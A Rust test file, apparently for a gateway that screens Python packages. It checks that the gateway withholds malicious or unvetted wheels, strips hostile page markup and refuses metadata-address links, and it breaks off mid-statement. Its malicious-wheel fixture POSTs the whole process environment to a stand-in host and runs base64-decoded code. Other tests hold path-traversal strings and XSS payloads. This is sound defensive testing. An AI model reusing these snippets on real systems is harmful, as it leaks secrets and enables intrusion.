//! `hognose gateway`, asked the way installers and attackers ask.

#![expect(clippy::unwrap_used, reason = "a test stops at the first surprise")]

#[path = "inspect/archives.rs"]
#[expect(dead_code, reason = "a part is used")]
mod archives;
mod common;

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use common::gateway::Running;
use common::upstream::{Answer, Upstream, hex};
use common::{Sandbox, root};

/// Every page is asked for again when a gateway is started anew.
const FRESH: &str = "[gateway]\nfresh = \"1s\"\n";
const JSON: &str = "Accept: application/vnd.pypi.simple.v1+json\r\n";
/// Long before the time of every test.
const OLD: &str = "data-upload-time=\"2024-01-02T03:04:05Z\"";
/// A day before it.
const YOUNG: &str = "data-upload-time=\"2026-11-17T11:00:00Z\"";

fn good(version: &str) -> Vec<u8> {
    archives::wheel("good", version, &[("good.py", "X = 1\n".to_owned())], "")
}

/// A shape, not a weapon: what is in the environment goes to nobody's host.
fn bad() -> Vec<u8> {
    let text = "import os, json, base64, urllib.request\nurllib.request.urlopen('http://example.invalid/c', data=base64.b64encode(json.dumps(dict(os.environ)).encode()))\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    archives::wheel("good", "3.0", &[("good/__init__.py", text.to_owned())], "")
}

const CONDEMNED: &str = r#"{"id":"MAL-2026-1","modified":"2026-11-18T00:00:00Z","summary":"takes what it finds","affected":[{"package":{"ecosystem":"PyPI","name":"good"},"versions":["1.0"]}]}"#;

struct Set {
    sandbox: Sandbox,
    upstream: Upstream,
    old: Vec<u8>,
}

impl Set {
    fn new() -> Self {
        let upstream = Upstream::new();
        let (old, young, bad) = (good("1.0"), good("2.0"), bad());
        upstream.project(
            "good",
            &[
                ("good-1.0-py3-none-any.whl", &old, OLD),
                ("good-2.0-py3-none-any.whl", &young, YOUNG),
                ("good-3.0-py3-none-any.whl", &bad, OLD),
            ],
        );
        Self {
            sandbox: Sandbox::new(),
            upstream,
            old,
        }
    }

    fn start(&self) -> Running {
        Running::start(&self.sandbox, &self.upstream.url(), "")
    }

    fn path(version: &str, bytes: &[u8]) -> String {
        format!("/files/good/{}/good-{version}-py3-none-any.whl", hex(bytes))
    }
}

#[test]
fn pages_in_every_form() {
    let set = Set::new();
    let gateway = set.start();
    let json = gateway.ask("/simple/good/", JSON);
    assert_eq!(json.status(), 200);
    assert_eq!(
        json.header("content-type").as_deref(),
        Some("application/vnd.pypi.simple.v1+json")
    );
    assert_eq!(
        json.header("vary").as_deref(),
        Some("Accept, Authorization")
    );
    let page: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
    assert_eq!(page["meta"]["api-version"], "1.4");
    assert_eq!(page["versions"], serde_json::json!(["1.0", "2.0", "3.0"]));
    let young = &page["files"][1];
    let reason = young["yanked"].as_str().unwrap();
    assert!(
        reason.starts_with("withheld by policy: HOG-STATUS-new"),
        "{reason}"
    );
    assert!(young.get("core-metadata").is_none());
    assert_eq!(page["files"][0]["yanked"], false);
    assert_eq!(page["files"][0]["core-metadata"], true);
    assert_eq!(page["files"][0]["upload-time"], "2024-01-02T03:04:05Z");
    // What nobody has judged and everybody would choose is judged first.
    assert_eq!(
        json.header("x-hognose-withheld").as_deref(),
        Some("3.0, 2.0")
    );
    let html = gateway.ask("/simple/good/", "");
    assert!(
        html.header("content-type")
            .unwrap()
            .starts_with("text/html")
    );
    assert!(
        html.text()
            .contains("<meta name=\"pypi:repository-version\" content=\"1.4\">")
    );
    assert!(
        html.text()
            .contains("data-yanked=\"withheld by policy: HOG-STATUS-new")
    );
    // Nothing changed: nothing is sent again.
    let etag = json.header("etag").unwrap();
    let again = gateway.ask("/simple/good/", &format!("{JSON}If-None-Match: {etag}\r\n"));
    assert_eq!((again.status(), again.body.len()), (304, 0));
    assert_eq!(
        gateway
            .ask("/simple/good/", "Accept: image/png\r\n")
            .status(),
        406
    );
    let moved = gateway.ask("/simple/Good", "");
    assert_eq!(moved.status(), 301);
    assert_eq!(moved.header("location").as_deref(), Some("/simple/good/"));
    let head = gateway.raw("HEAD /simple/good/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    assert_eq!((head.status(), head.body.len()), (200, 0));
    assert_eq!(head.header("content-length"), html.header("content-length"));
    assert_eq!(gateway.raw("POST /simple/good/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 0\r\n\r\n").status(), 405);
    assert_eq!(gateway.ask("/simple/nobody/", "").status(), 404);
    // The upstream was asked once for each project, whatever was asked of us.
    let asked = set.upstream.seen();
    let pages = asked.iter().filter(|p| *p == "/simple/good/").count();
    assert_eq!(pages, 1, "{asked:?}");
}

#[test]
fn files_are_served_refused_and_cut() {
    let set = Set::new();
    let gateway = set.start();
    let path = Set::path("1.0", &set.old);
    let file = gateway.ask(&path, "");
    assert_eq!(
        (file.status(), &file.body),
        (200, &set.old),
        "{}",
        file.text()
    );
    assert!(file.header("cache-control").unwrap().contains("immutable"));
    let part = gateway.ask(&path, "Range: bytes=10-19\r\n");
    assert_eq!(
        (part.status(), part.body.as_slice()),
        (206, &set.old[10..20])
    );
    let size = set.old.len();
    assert_eq!(
        part.header("content-range"),
        Some(format!("bytes 10-19/{size}"))
    );
    assert_eq!(gateway.ask(&path, "Range: bytes=999999-\r\n").status(), 416);
    let etag = file.header("etag").unwrap();
    assert_eq!(
        gateway
            .ask(&path, &format!("If-None-Match: {etag}\r\n"))
            .status(),
        304
    );
    let metadata = gateway.ask(&format!("{path}.metadata"), "");
    assert!(
        metadata.text().starts_with("Metadata-Version:"),
        "{}",
        metadata.text()
    );
    let fetched = set.upstream.seen();
    let times = fetched
        .iter()
        .filter(|p| p.contains("good-1.0") && !p.contains("metadata"));
    assert!(times.count() <= 2, "{fetched:?}");
    // Too young, by the page alone: its bytes are not even fetched.
    let young = gateway.ask(&Set::path("2.0", &good("2.0")), "");
    assert_eq!(young.status(), 403);
    assert!(
        young.line.contains("Withheld by policy: HOG-STATUS-new"),
        "{}",
        young.line
    );
    assert_eq!(
        young.header("content-type").as_deref(),
        Some("application/problem+json")
    );
    assert!(young.text().contains("\"detail\""), "{}", young.text());
    assert!(set.upstream.seen().is_empty());
    // Malicious, by its bytes: they are fetched and not passed on, and the page says so from then on.
    let bytes = bad();
    let refused = gateway.ask(&Set::path("3.0", &bytes), "");
    assert_eq!(refused.status(), 403, "{}", refused.line);
    assert!(refused.line.contains("HOG-MAL-"), "{}", refused.line);
    let page = gateway.ask("/simple/good/", JSON);
    assert_eq!(
        page.header("x-hognose-withheld").as_deref(),
        Some("3.0, 2.0")
    );
}

#[test]
fn paths_that_are_not_ours() {
    let set = Set::new();
    let gateway = set.start();
    let digest = hex(&set.old);
    for path in [
        "/simple/../../etc/passwd",
        "/simple/..%2F..%2Fetc/",
        "/files/good/-/../../../etc/passwd",
        "/files/good/-/..%2f..%2fhognose.toml",
        "/files/good/-/%2e%2e%5chognose.toml",
        "/files/good/-/%252e%252e%252fhognose.toml",
        "/files/good/-/good-1.0-py3-none-any.whl",
        &format!("/files/other/{digest}/good-1.0-py3-none-any.whl"),
        &format!("/files/good/{}/good-1.0-py3-none-any.whl", "0".repeat(64)),
        &format!("/files/good/{digest}/good-9.0-py3-none-any.whl"),
        "/http://example.invalid/",
        "/admin",
    ] {
        assert_eq!(gateway.ask(path, "").status(), 404, "{path}");
    }
    // What is no HTTP, what is too large, what smuggles.
    for request in [
        "GET /simple/good/ HTTP/1.1\r\nHost: x\r\nBad Header: y\r\n\r\n".to_owned(),
        format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", "a".repeat(900_000)),
        "GET /a\u{0} HTTP/1.1\r\n\r\n".to_owned(),
    ] {
        let got = gateway.raw(&request);
        assert!(got.line.is_empty() || got.status() >= 400, "{}", got.line);
    }
    assert_eq!(gateway.ask("/healthz", "").status(), 200);
    assert!(
        gateway
            .ask("/metrics", "")
            .text()
            .contains("hognose_requests_total")
    );
}

#[test]
fn an_upstream_that_fails_makes_nothing_absent() {
    let set = Set::new();
    set.upstream.put("/simple/broken/", Answer::status(500));
    set.upstream.put("/simple/denied/", Answer::status(403));
    let gateway = set.start();
    for name in ["broken", "denied"] {
        let got = gateway.ask(&format!("/simple/{name}/"), JSON);
        assert_eq!(got.status(), 503, "{}", got.line);
        assert!(got.text().contains("could not be asked"), "{}", got.text());
    }
}

#[test]
fn one_fetch_for_a_crowd() {
    let set = Set::new();
    let large = archives::wheel("good", "1.0", &[("good.py", "X = 1\n".repeat(200_000))], "");
    set.upstream
        .project("good", &[("good-1.0-py3-none-any.whl", &large, OLD)]);
    let slow = Answer {
        pause: Duration::from_millis(700),
        ..Answer::file(large.clone())
    };
    set.upstream.put("/files/good-1.0-py3-none-any.whl", slow);
    let gateway = set.start();
    let path = Set::path("1.0", &large);
    std::thread::scope(|scope| {
        let askers: Vec<_> = (0..64)
            .map(|_| scope.spawn(|| gateway.ask(&path, "")))
            .collect();
        for asker in askers {
            let got = asker.join().unwrap();
            assert_eq!((got.status(), got.body.len()), (200, large.len()));
        }
    });
    let seen = set.upstream.seen();
    let files = seen.iter().filter(|p| p.starts_with("/files/")).count();
    let pages = seen.iter().filter(|p| *p == "/simple/good/").count();
    assert_eq!((files, pages), (1, 1), "{seen:?}");
}

#[test]
fn bytes_come_on_before_all_are_there() {
    let set = Set::new();
    let large: Vec<u8> =
        archives::wheel("good", "1.0", &[("good.py", "X = 1\n".repeat(200_000))], "");
    set.upstream
        .project("good", &[("good-1.0-py3-none-any.whl", &large, OLD)]);
    let slow = Answer {
        pause: Duration::from_secs(3),
        ..Answer::file(large.clone())
    };
    set.upstream.put("/files/good-1.0-py3-none-any.whl", slow);
    let gateway = Running::start(
        &set.sandbox,
        &set.upstream.url(),
        "[gateway]\ninspect = false\n",
    );
    let mut stream = TcpStream::connect(&gateway.address).unwrap();
    let path = Set::path("1.0", &large);
    let began = Instant::now();
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut first = [0; 2_000];
    stream.read_exact(&mut first).unwrap();
    assert!(
        began.elapsed() < Duration::from_secs(2),
        "{:?}",
        began.elapsed()
    );
    let mut rest = Vec::new();
    stream.read_to_end(&mut rest).unwrap();
    assert!(rest.len() + first.len() > large.len());
}

#[test]
fn what_has_another_digest_is_never_whole() {
    let set = Set::new();
    let other = good("1.5");
    set.upstream.put(
        "/files/good-1.0-py3-none-any.whl",
        Answer::file(other.clone()),
    );
    for configuration in ["", "[gateway]\ninspect = false\n"] {
        let sandbox = Sandbox::new();
        let gateway = Running::start(&sandbox, &set.upstream.url(), configuration);
        let got = gateway.ask(&Set::path("1.0", &set.old), "");
        assert!(
            got.status() == 503 || got.body.len() < other.len(),
            "{}",
            got.line
        );
        // Nothing of it was kept.
        let kept = walk(&sandbox.cache().join("blobs"));
        assert!(kept.is_empty(), "{kept:?}");
    }
}

#[test]
fn a_cut_download_is_cut_here_too() {
    let set = Set::new();
    let cut = Answer {
        claimed: Some(set.old.len() + 100),
        ..Answer::file(set.old.clone())
    };
    set.upstream.put("/files/good-1.0-py3-none-any.whl", cut);
    let gateway = set.start();
    assert_eq!(gateway.ask(&Set::path("1.0", &set.old), "").status(), 503);
    // Once the upstream is well again, so is the gateway.
    set.upstream.put(
        "/files/good-1.0-py3-none-any.whl",
        Answer::file(set.old.clone()),
    );
    assert_eq!(gateway.ask(&Set::path("1.0", &set.old), "").status(), 200);
}

#[test]
fn markup_of_upstreams_is_not_passed_on() {
    let set = Set::new();
    let page = format!(
        "<html><head><base href=\"http://example.invalid/\"><script>alert(1)</script></head><body onload=\"x\"><a href=\"/files/good-1.0-py3-none-any.whl#sha256={}\" onclick=\"x\" data-requires-python=\"&gt;=3&quot;&gt;&lt;script&gt;\" {OLD}>good-1.0-py3-none-any.whl</a><a href=\"javascript:alert(1)\">good-1.1-py3-none-any.whl</a></body></html>",
        hex(&set.old)
    );
    set.upstream.put("/simple/good/", Answer::html(page));
    let gateway = set.start();
    let html = gateway.ask("/simple/good/", "").text();
    for mark in [
        "<script",
        "onclick",
        "onload",
        "javascript:",
        "<base",
        "example.invalid",
    ] {
        assert!(!html.contains(mark), "{mark} in {html}");
    }
}

#[test]
fn names_that_are_owned_are_asked_of_their_owner_alone() {
    let (owner, public) = (Upstream::new(), Upstream::new());
    let (mine, theirs) = (good("1.0"), good("9999.0"));
    public.project("good", &[("good-9999.0-py3-none-any.whl", &theirs, OLD)]);
    let sandbox = Sandbox::new();
    let configuration = format!(
        "[[gateway.upstream]]\nname = \"public\"\nurl = \"{}\"\n[[gateway.upstream]]\nname = \"ours\"\nurl = \"{}\"\nowned = [\"good*\"]\n",
        public.url(),
        owner.url()
    );
    let gateway = Running::start(&sandbox, &public.url(), &configuration);
    // The owner does not have it: then nobody has.
    assert_eq!(gateway.ask("/simple/good/", JSON).status(), 404);
    // The owner does not answer: then nobody knows.
    owner.put("/simple/good-two/", Answer::status(500));
    assert_eq!(gateway.ask("/simple/good-two/", JSON).status(), 503);
    owner.project("good-three", &[]);
    owner.put("/simple/good-three/", Answer::html(format!("<a href=\"/files/good_three-1.0-py3-none-any.whl#sha256={}\">good_three-1.0-py3-none-any.whl</a>", hex(&mine))));
    let page = gateway.ask("/simple/good-three/", JSON);
    assert_eq!(page.status(), 200);
    assert!(public.seen().is_empty());
}

#[test]
fn what_new_advisories_condemn_is_served_no_more() {
    let set = Set::new();
    let feed = set.sandbox.work().join("feed");
    copy(&root().join("examples/feeds"), &feed);
    let feed = feed.to_str().unwrap().to_owned();
    let gateway = Running::start_with(&set.sandbox, &set.upstream.url(), "", &feed);
    let path = Set::path("1.0", &set.old);
    assert_eq!(gateway.ask(&path, "").status(), 200);
    let before = gateway.ask("/simple/good/", JSON).header("etag");
    std::fs::write(format!("{feed}/MAL-2026-1.json"), CONDEMNED).unwrap();
    let updated = set.sandbox.run(&["db", "update", "--feed", &feed]);
    assert_eq!(updated.code, 0, "{}", updated.whole());
    let began = Instant::now();
    loop {
        let got = gateway.ask(&path, "");
        if got.status() == 403 {
            assert!(got.line.contains("HOG-MAL-known"), "{}", got.line);
            break;
        }
        assert!(began.elapsed() < Duration::from_secs(30), "{}", got.line);
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_ne!(gateway.ask("/simple/good/", JSON).header("etag"), before);
}

fn copy(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap().flatten() {
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

#[test]
fn links_to_the_machine_s_own_link_are_not_followed() {
    let set = Set::new();
    let page = format!(
        "<a href=\"http://169.254.169.254/latest/good-1.0-py3-none-any.whl#sha256={}\" {OLD}>good-1.0-py3-none-any.whl</a>",
        hex(&set.old)
    );
    set.upstream.put("/simple/good/", Answer::html(page));
    let gateway = set.start();
    let got = gateway.ask(&Set::path("1.0", &set.old), "");
    assert_eq!(got.status(), 503);
    assert!(
        got.text().contains("private address 169.254.169.254"),
        "{}",
        got.text()
    );
}

#[test]
fn a_verdict_counts_on_every_page_at_once() {
    let set = Set::new();
    let bytes = bad();
    set.upstream
        .project("twin", &[("twin-3.0-py3-none-any.whl", &bytes, OLD)]);
    let gateway = set.start();
    // The page of the one is decided before the bytes of the other are read.
    assert_eq!(gateway.ask("/simple/twin/", JSON).status(), 200);
    assert_eq!(gateway.ask(&Set::path("3.0", &bytes), "").status(), 403);
    let twin = format!("/files/twin/{}/twin-3.0-py3-none-any.whl", hex(&bytes));
    let got = gateway.ask(&twin, "");
    assert!(got.line.contains("HOG-MAL-"), "{}", got.line);
    let metadata = gateway.ask(&format!("{twin}.metadata"), "");
    assert_eq!(metadata.status(), 403, "{}", metadata.line);
}

#[test]
fn a_version_counts_however_it_is_spelled() {
    let set = Set::new();
    let bytes = archives::wheel("good", "1.0.0", &[("good.py", "X = 1\n".to_owned())], "");
    set.upstream
        .project("good", &[("good-1.0.0-py3-none-any.whl", &bytes, OLD)]);
    let feed = set.sandbox.work().join("feed");
    copy(&root().join("examples/feeds"), &feed);
    std::fs::write(feed.join("MAL-2026-1.json"), CONDEMNED).unwrap();
    let feed = feed.to_str().unwrap();
    let gateway = Running::start_with(&set.sandbox, &set.upstream.url(), "", feed);
    let got = gateway.ask(&Set::path("1.0.0", &bytes), "");
    assert!(got.line.contains("HOG-MAL-known"), "{}", got.line);
    let page = gateway.ask("/simple/good/", JSON);
    assert_eq!(page.header("x-hognose-withheld").as_deref(), Some("1.0.0"));
}

#[test]
fn the_list_of_what_is_let_in_is_not_for_malware() {
    let set = Set::new();
    let configuration = "[gateway]\nallow = [\"good\"]\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), configuration);
    let young = gateway.ask(&Set::path("2.0", &good("2.0")), "");
    assert_eq!(young.status(), 200, "{}", young.line);
    let malicious = gateway.ask(&Set::path("3.0", &bad()), "");
    assert!(malicious.line.contains("HOG-MAL-"), "{}", malicious.line);
}

#[test]
fn what_cannot_be_read_is_not_let_in() {
    let set = Set::new();
    let noise = b"PK\x03\x04 this is no archive".to_vec();
    let name = "good-1.0-py3-none-any.whl";
    set.upstream.project("good", &[(name, &noise, OLD)]);
    let path = Set::path("1.0", &noise);
    let gateway = set.start();
    let got = gateway.ask(&path, "");
    assert!(got.line.contains("HOG-GAP-unreadable"), "{}", got.line);
    drop(gateway);
    let lenient = "[gateway]\non-unknown = \"allow\"\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), lenient);
    assert_eq!(gateway.ask(&path, "").status(), 200);
}

#[test]
fn what_cannot_be_judged_is_not_the_newest_of_its_page() {
    let set = Set::new();
    let (one, mut two) = (good("1.0"), good("2.0"));
    let middle = two.len() / 2;
    two.truncate(middle);
    set.upstream.project(
        "good",
        &[
            ("good-1.0-py3-none-any.whl", &one, OLD),
            ("good-2.0-py3-none-any.whl", &two, OLD),
        ],
    );
    let page = |configuration: &str| {
        let sandbox = Sandbox::new();
        let gateway = Running::start(&sandbox, &set.upstream.url(), configuration);
        let got = gateway.ask("/simple/good/", JSON);
        let page: serde_json::Value = serde_json::from_slice(&got.body).unwrap();
        let of = |at: usize| page["files"][at]["yanked"].to_string();
        // Whoever names it gets the answer of ever.
        let file = gateway.ask(&Set::path("2.0", &two), "");
        (
            of(0),
            of(1),
            got.header("x-hognose-withheld"),
            file.status(),
        )
    };
    let (old, new, told, status) = page("");
    assert_eq!((old.as_str(), status), ("false", 403));
    assert!(
        new.contains("not to be had now: HOG-GAP-unreadable"),
        "{new}"
    );
    assert_eq!(told.as_deref(), Some("2.0"));
    let unmoved = ("false".to_owned(), "false".to_owned(), None, 403);
    assert_eq!(page("[gateway]\nlook-ahead = false\n"), unmoved);
    // What is let in all the same is shown so.
    let (_, new, _, status) = page("[gateway]\non-unknown = \"allow\"\n");
    assert_eq!((new.as_str(), status), ("false", 200));
}

#[test]
fn a_failing_upstream_is_left_alone() {
    let set = Set::new();
    set.upstream.put("/simple/broken/", Answer::status(403));
    let gateway = set.start();
    std::thread::scope(|scope| {
        for _ in 0..20 {
            scope.spawn(|| assert_eq!(gateway.ask("/simple/broken/", JSON).status(), 503));
        }
    });
    let seen = set.upstream.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
}

#[test]
fn a_file_that_was_exchanged_is_an_incident() {
    let set = Set::new();
    let path = Set::path("1.0", &set.old);
    let gateway = set.start();
    assert_eq!(gateway.ask(&path, "").status(), 200);
    drop(gateway);
    let other = archives::wheel("good", "1.0", &[("good.py", "X = 2\n".to_owned())], "");
    set.upstream
        .project("good", &[("good-1.0-py3-none-any.whl", &other, OLD)]);
    let fresh = "[gateway]\nfresh = \"1s\"\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), fresh);
    let exchanged = Set::path("1.0", &other);
    let got = gateway.ask(&exchanged, "");
    assert!(got.line.contains("HOG-ID-replaced"), "{}", got.line);
    // Pages say so from then on, and the log for ever.
    let page = gateway.ask("/simple/good/", JSON);
    assert_eq!(page.header("x-hognose-withheld").as_deref(), Some("1.0"));
    let metadata = gateway.ask(&format!("{exchanged}.metadata"), "");
    assert_eq!(metadata.status(), 403);
    let log = ["gateway", "audit", "--kind", "replaced"];
    let began = Instant::now();
    while set.sandbox.run(&log).code != 0 {
        assert!(began.elapsed() < Duration::from_secs(10));
        std::thread::sleep(Duration::from_millis(50));
    }
    let told = set.sandbox.run(&log).stdout;
    assert!(told.contains(&hex(&set.old)[..12]), "{told}");
    drop(gateway);
    // Somebody has looked, and lets it in.
    let looked = "[gateway]\nallow = [\"good==1.0\"]\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), looked);
    assert_eq!(gateway.ask(&exchanged, "").status(), 200);
}

#[test]
fn observing_shows_pages_as_they_are() {
    let set = Set::new();
    let observe = "[gateway]\nmode = \"observe\"\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), observe);
    let page = gateway.ask("/simple/good/", JSON);
    // What would be withheld is told all the same.
    assert_eq!(page.header("x-hognose-withheld").as_deref(), Some("2.0"));
    let page: serde_json::Value = serde_json::from_slice(&page.body).unwrap();
    assert_eq!(page["files"][1]["yanked"], false);
    assert_eq!(page["files"][1]["core-metadata"], true);
    let young = gateway.ask(&Set::path("2.0", &good("2.0")), "");
    assert_eq!(young.status(), 200, "{}", young.line);
}

fn walk(folder: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        if entry.path().is_dir() {
            out.extend(walk(&entry.path()));
        } else {
            out.push(entry.path().display().to_string());
        }
    }
    out
}

#[test]
fn conditions_of_the_policy_are_decided_by_page_and_by_bytes() {
    let set = Set::new();
    let with = |license: &str| {
        let wheel = archives::wheel("good", "1.0", &[("good.py", "X = 1\n".to_owned())], license);
        set.upstream
            .project("good", &[("good-1.0-py3-none-any.whl", &wheel, OLD)]);
        wheel
    };
    let answer = |configuration: &str, wheel: &[u8]| {
        let sandbox = Sandbox::new();
        let gateway = Running::start(&sandbox, &set.upstream.url(), configuration);
        gateway.ask(&Set::path("1.0", wheel), "").line
    };
    let licenses = "[policy.licenses]\ndeny = [\"AGPL-*\"]\n";
    let agpl = with("License-Expression: AGPL-3.0-only\n");
    let got = answer(licenses, &agpl);
    assert!(
        got.contains("403") && got.contains("HOG-LIC-denied"),
        "{got}"
    );
    let waived = "[policy.rules]\nHOG-LIC-denied = \"warn\"\n";
    let got = answer(&format!("{licenses}{waived}"), &agpl);
    assert!(got.contains("200"), "{got}");
    let mit = with("License-Expression: MIT OR AGPL-3.0-only\n");
    let got = answer(licenses, &mit);
    assert!(got.contains("200"), "{got}");
    let got = answer("[policy]\nmax-rank = 100\n", &mit);
    assert!(got.contains("HOG-ID-obscure"), "{got}");
    let got = answer("[policy]\nmin-project-age = \"3000d\"\n", &mit);
    assert!(got.contains("HOG-ID-newcomer"), "{got}");
    let twin = archives::wheel("requestss", "1.0", &[("x.py", String::new())], "");
    set.upstream
        .project("reqeusts", &[("reqeusts-1.0-py3-none-any.whl", &twin, OLD)]);
    let sandbox = Sandbox::new();
    let lookalikes = "[policy.rules]\nHOG-ID-lookalike = \"block\"\n";
    let gateway = Running::start(&sandbox, &set.upstream.url(), lookalikes);
    let page = gateway.ask("/simple/reqeusts/", JSON);
    assert_eq!(page.header("x-hognose-withheld").as_deref(), Some("1.0"));
    assert!(page.text().contains("HOG-ID-lookalike"), "{}", page.text());
    let own = "[policy]\nmax-rank = 100\n[identity]\nowned = [\"good\"]\n";
    let got = answer(own, &mit);
    assert!(got.contains("200"), "{got}");
}

#[test]
fn attestations_are_handed_on() {
    let set = Set::new();
    let provenance = r#"{"version":1,"attestation_bundles":[{"publisher":{"kind":"GitHub","repository":"acme/good","workflow":"x.yml"},"attestations":[]}]}"#;
    let announced = format!("{OLD} data-provenance=\"/provenance/good\"");
    set.upstream.project(
        "good",
        &[("good-1.0-py3-none-any.whl", &set.old, &announced)],
    );
    let answer = Answer {
        media: "application/vnd.pypi.integrity.v1+json",
        ..Answer::html(provenance)
    };
    set.upstream.put("/provenance/good", answer);
    let plain = "[gateway]\nlook-ahead = false\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), plain);
    let page = gateway.ask("/simple/good/", JSON);
    let page: serde_json::Value = serde_json::from_slice(&page.body).unwrap();
    let path = Set::path("1.0", &set.old);
    let told = page["files"][0]["provenance"].as_str().unwrap();
    assert_eq!(told, format!("../..{path}.provenance"));
    let html = gateway.ask("/simple/good/", "").text();
    assert!(
        html.contains(&format!("data-provenance=\"{told}\"")),
        "{html}"
    );
    let got = gateway.ask(&format!("{path}.provenance"), "");
    assert_eq!((got.status(), got.text().as_str()), (200, provenance));
    let media = got.header("content-type").unwrap();
    assert_eq!(media, "application/vnd.pypi.integrity.v1+json");
    // What the upstream answers is looked at before it is handed on.
    set.upstream
        .put("/provenance/good", Answer::html("<script>"));
    let gateway = Running::start(&Sandbox::new(), &set.upstream.url(), "");
    let got = gateway.ask(&format!("{path}.provenance"), "");
    assert_eq!(got.status(), 503, "{}", got.text());
}

#[test]
fn a_new_policy_is_in_force_within_seconds() {
    let set = Set::new();
    let gateway = set.start();
    let path = Set::path("1.0", &set.old);
    assert_eq!(gateway.ask(&path, "").status(), 200);
    let etag = gateway.ask("/simple/good/", JSON).header("etag");
    let until = |status: u16| {
        let began = Instant::now();
        while gateway.ask(&path, "").status() != status {
            assert!(began.elapsed() < Duration::from_secs(20));
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    set.sandbox
        .write("hognose.toml", "[gateway]\ndeny = [\"good==1.0\"]\n");
    until(403);
    assert_ne!(gateway.ask("/simple/good/", JSON).header("etag"), etag);
    // What happens to what cannot be judged changes with it.
    let noise = b"PK this is no archive".to_vec();
    set.upstream
        .project("noise", &[("noise-1.0-py3-none-any.whl", &noise, OLD)]);
    let unreadable = format!("/files/noise/{}/noise-1.0-py3-none-any.whl", hex(&noise));
    assert_eq!(gateway.ask(&unreadable, "").status(), 403);
    // One that is wrong changes nothing.
    set.sandbox
        .write("hognose.toml", "[gateway]\ndeny = [\"good==\n");
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(gateway.ask(&path, "").status(), 403);
    set.sandbox
        .write("hognose.toml", "[policy]\nfail-on = \"high\"\n");
    until(200);
    let log = set.sandbox.run(&["gateway", "audit", "--kind", "changed"]);
    assert_eq!(log.code, 0, "{}", log.whole());
    assert!(log.stdout.contains("policy is now "), "{}", log.stdout);
}

/// The configuration is read first, and what comes after takes a while: what is written meanwhile is seen.
#[cfg(unix)]
#[test]
fn a_policy_that_is_written_while_the_gateway_starts_is_in_force_too() {
    use std::os::unix::fs::PermissionsExt as _;
    let set = Set::new();
    let deny = "[gateway]\ndeny = [\"good==1.0\"]\n";
    set.sandbox.write("later.toml", deny);
    // Asked for a password once everything else is read.
    let script = "#!/bin/sh\ncp later.toml hognose.toml\necho hidden\n";
    let keyring = set.sandbox.write("../bin/keyring", script);
    std::fs::set_permissions(&keyring, std::fs::Permissions::from_mode(0o755)).unwrap();
    let folder = keyring.parent().unwrap().canonicalize().unwrap();
    let path = format!("{}:/usr/bin:/bin", folder.display());
    let index = set.upstream.url().replace("http://", "http://me@");
    let feed = root().join("examples/feeds");
    let gateway = Running::start_in(
        &set.sandbox,
        &index,
        "[gateway]\nallow = [\"good\"]\n",
        feed.to_str().unwrap(),
        &[("PIP_KEYRING_PROVIDER", "subprocess"), ("PATH", &path)],
    );
    let written = std::fs::read_to_string(set.sandbox.work().join("hognose.toml")).unwrap();
    assert_eq!(written, deny);
    let began = Instant::now();
    while gateway.ask(&Set::path("1.0", &set.old), "").status() != 403 {
        assert!(began.elapsed() < Duration::from_secs(10));
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn who_asks_too_often_waits() {
    let set = Set::new();
    let configuration = "[gateway]\nrate = 2\ntrusted-proxies = [\"127.0.0.1\"]\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), configuration);
    let asked = |client: &str| gateway.ask("/healthz", &format!("X-Forwarded-For: {client}\r\n"));
    let many: Vec<_> = (0..30).map(|_| asked("192.0.2.1")).collect();
    let refused = many.iter().find(|got| got.status() == 429).unwrap();
    assert!(refused.header("retry-after").is_some());
    assert!(many.iter().filter(|got| got.status() == 200).count() >= 20);
    assert_eq!(asked("192.0.2.2").status(), 200);
    // The log has whom the proxy names.
    let file = gateway.ask(
        &Set::path("2.0", &good("2.0")),
        "X-Forwarded-For: 192.0.2.3\r\n",
    );
    assert_eq!(file.status(), 403);
    let log = ["gateway", "audit", "--kind", "blocked"];
    let began = Instant::now();
    while set.sandbox.run(&log).code != 0 {
        assert!(began.elapsed() < Duration::from_secs(10));
        std::thread::sleep(Duration::from_millis(50));
    }
    let told = set.sandbox.run(&log).stdout;
    assert!(told.contains("192.0.2.3"), "{told}");
}

#[test]
fn tls_is_spoken_where_there_is_a_certificate() {
    let set = Set::new();
    let made = rcgen::generate_simple_self_signed(vec!["localhost".to_owned()]).unwrap();
    set.sandbox.write("tls/chain.pem", made.cert.pem());
    set.sandbox
        .write("tls/key.pem", made.signing_key.serialize_pem());
    let configuration =
        "[gateway]\ntls-certificate = \"tls/chain.pem\"\ntls-key = \"tls/key.pem\"\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), configuration);
    let port = gateway.address.rsplit(':').next().unwrap().to_owned();
    let script = "import ssl, sys, urllib.request\ncontext = ssl.create_default_context(cafile=sys.argv[2])\nanswer = urllib.request.urlopen(f'https://localhost:{sys.argv[1]}/pypi/good/json', context=context)\nprint(answer.read().decode())\n";
    let output = std::process::Command::new("python3")
